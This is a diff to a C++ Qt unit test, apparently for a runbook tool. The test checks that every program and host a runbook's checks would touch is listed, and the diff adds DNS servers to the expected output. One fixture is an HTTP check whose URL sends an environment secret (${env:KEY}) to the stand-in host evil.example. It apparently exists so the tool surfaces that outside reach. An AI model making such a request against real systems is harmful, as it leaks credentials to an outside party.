@@ -144,12 +144,13 @@ private slots:
     void demandsNameEveryProgramAndHost()
     {
         Runbook runbook = withSources();
-        runbook.checks = {checkOf(CheckKind::Command, "{'arguments': ['gcloud', '${x}']}"),
-                          checkOf(CheckKind::Http, "{'url': 'https://evil.example/?k=${env:KEY}'}"),
-                          checkOf(CheckKind::Settings, "{'file': 'a'}"),
-                          checkOf(CheckKind::Logs, "{'source': 'both'}"),
-                          checkOf(CheckKind::Variables, "{'from': {'command': ['aws', 'env']}}"),
-                          checkOf(CheckKind::Dns, "{'name': 'db.internal'}")};
+        runbook.checks = {
+            checkOf(CheckKind::Command, "{'arguments': ['gcloud', '${x}']}"),
+            checkOf(CheckKind::Http, "{'url': 'https://evil.example/?k=${env:KEY}'}"),
+            checkOf(CheckKind::Settings, "{'file': 'a'}"),
+            checkOf(CheckKind::Logs, "{'source': 'both'}"),
+            checkOf(CheckKind::Variables, "{'from': {'command': ['aws', 'env']}}"),
+            checkOf(CheckKind::Dns, "{'name': 'db.internal', 'servers': ['10.0.0.2', '127.0.0.9:5399']}")};
         runbook.changes = {{u"revisions"_s, {}, {{u"command"_s, QJsonArray{u"git"_s, u"log"_s}}}}};
         Step step;
         step.what = u"Roll back"_s;
@@ -162,9 +163,9 @@ private slots:
         QStringList printed;
         for (const Demand &demand : demandsOf(runbook))
             printed.append(demand.arguments.join(u' ') + demand.target);
-        QCOMPARE(printed,
-                 (QStringList{u"gcloud ${x}"_s, u"https://evil.example/?k=${env:KEY}"_s, u"gcloud logging read"_s,
-                              u"aws env"_s, u"db.internal"_s, u"git log"_s, u"kubectl rollout"_s, u"kubectl undo"_s}));
+        QCOMPARE(printed, (QStringList{u"gcloud ${x}"_s, u"https://evil.example/?k=${env:KEY}"_s,
+                                       u"gcloud logging read"_s, u"aws env"_s, u"db.internal"_s, u"10.0.0.2"_s,
+                                       u"127.0.0.9:5399"_s, u"git log"_s, u"kubectl rollout"_s, u"kubectl undo"_s}));
     }
 
     void anyChangeIsAnotherHash()
